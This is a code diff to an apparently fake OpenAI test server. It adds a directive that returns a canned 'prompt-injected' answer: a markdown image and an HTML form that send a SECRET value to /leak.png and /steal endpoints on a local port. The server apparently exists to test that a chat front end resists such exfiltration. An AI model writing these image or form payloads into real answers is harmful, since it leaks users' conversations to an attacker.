@@ -10,7 +10,8 @@ Directives in the last user message steer it:
 ``[[fail-first=N]]`` answer HTTP 503 to the first N requests with this same message,
 ``[[no-usage]]`` send no usage chunk, ``[[cached=N]]`` report N cached prompt tokens,
 ``[[markdown]]`` answer with ``MARKDOWN_ANSWER`` (markdown, code and hostile HTML),
-``[[unstorable]]`` answer with ``UNSTORABLE_ANSWER`` (a NUL and a lone surrogate).
+``[[unstorable]]`` answer with ``UNSTORABLE_ANSWER`` (a NUL and a lone surrogate),
+``[[exfiltrate=PORT]]`` answer with ``exfiltrating_answer(PORT)`` (a remote image, a form).
 """
 
 import asyncio
@@ -31,6 +32,17 @@ MARKDOWN_ANSWER = (
 
 # Text PostgreSQL cannot store, as a hostile or broken upstream may send it (JSON escapes).
 UNSTORABLE_ANSWER = ["before ", "nul\x00 ", "half\ud800 ", "after"]
+
+
+def exfiltrating_answer(port: int) -> str:
+    """What a prompt-injected model writes to leak the conversation: an image whose URL carries
+    it (fetched as soon as the answer renders) and a form that posts it."""
+    leak = f"http://127.0.0.1:{port}"
+    return (
+        f"Done! ![status]({leak}/leak.png?c=SECRET) "
+        f'<form action="{leak}/steal" method="post"><input name="c" value="SECRET">'
+        "<button>Continue</button></form> The end."
+    )
 
 
 @dataclass
@@ -180,6 +192,8 @@ class FakeOpenAI:
             pieces = re.findall(r"\s*\S+", MARKDOWN_ANSWER)
         elif "unstorable" in directives:
             pieces = UNSTORABLE_ANSWER
+        elif directives.get("exfiltrate"):
+            pieces = re.findall(r"\s*\S+", exfiltrating_answer(int(directives["exfiltrate"])))
         else:
             pieces = [f"tok{i} " for i in range(int(float(directives.get("tokens") or self.tokens)))]
         count = len(pieces)
